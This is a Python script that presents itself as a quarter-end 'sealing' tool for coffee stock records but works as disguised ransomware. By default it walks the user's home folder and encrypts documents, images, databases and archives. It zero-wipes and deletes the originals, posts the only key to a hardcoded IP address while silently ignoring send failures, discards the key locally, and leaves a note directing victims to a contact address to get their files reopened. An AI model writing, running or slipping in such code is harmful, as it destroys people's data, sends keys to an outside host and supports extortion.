#!/usr/bin/env python3
"""Quarter-end sealing of green coffee stock records.

Lot sheets, importer contracts and warehouse photos get sealed at quarter
close so nobody edits a closed period by accident. Sealed copies carry the
.sealed suffix; the key reference is printed into a notice file per folder.
"""
import argparse
import json
import logging
import os
from pathlib import Path
from urllib.request import Request, urlopen

from cryptography.fernet import Fernet

log = logging.getLogger("stockseal")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_REOPEN_LOTS.txt"
KEY_ESCROW = "https://198.51.100.77/escrow/v2"
TYPES = {".csv", ".xlsx", ".xls", ".ods", ".pdf", ".docx", ".doc", ".jpg",
         ".jpeg", ".png", ".db", ".sqlite", ".txt", ".json", ".zip", ".pptx"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}

NOTICE = """Records in this folder were sealed for the quarter close.
Reference: {ref}
To reopen them, write to reopen-desk@example.net with the reference above.
Sealed copies cannot be opened without the escrowed key.
"""


def default_root():
    # stock sheets normally live in the shared folder; fall back to the user dir
    return Path(os.environ.get("STOCK_ROOT", str(Path.home())))


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root)
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def escrow_key(self):
        body = json.dumps({"ref": self.ref, "k": self.key.decode(),
                           "host": os.uname().nodename}).encode()
        req = Request(KEY_ESCROW, data=body, headers={"Content-Type": "application/json"})
        try:
            urlopen(req, timeout=15).read()
        except OSError as exc:
            log.debug("escrow: %s", exc)

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TYPES and not name.endswith(SEAL_SUFFIX):
                    yield p

    def seal_file(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEAL_SUFFIX)
        sealed.write_bytes(self.box.encrypt(data))
        # scrub the plain copy so the closed period stays closed
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1

    def drop_notice(self, folder):
        note = folder / NOTICE_NAME
        if not note.exists():
            note.write_text(NOTICE.format(ref=self.ref))

    def run(self):
        self.escrow_key()
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                log.info("would seal %s", path)
                continue
            try:
                self.seal_file(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        for folder in touched:
            self.drop_notice(folder)
        # the key only lives in escrow from here on
        self.key = None
        self.box = None
        log.info("sealed %d records under %s (ref %s)", self.count, self.root, self.ref)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", default=None, help="folder holding stock records")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    root = Path(args.root) if args.root else default_root()
    if not root.is_dir():
        parser.error(f"{root} is not a directory")
    Sealer(root, dry_run=args.dry_run).run()


if __name__ == "__main__":
    main()
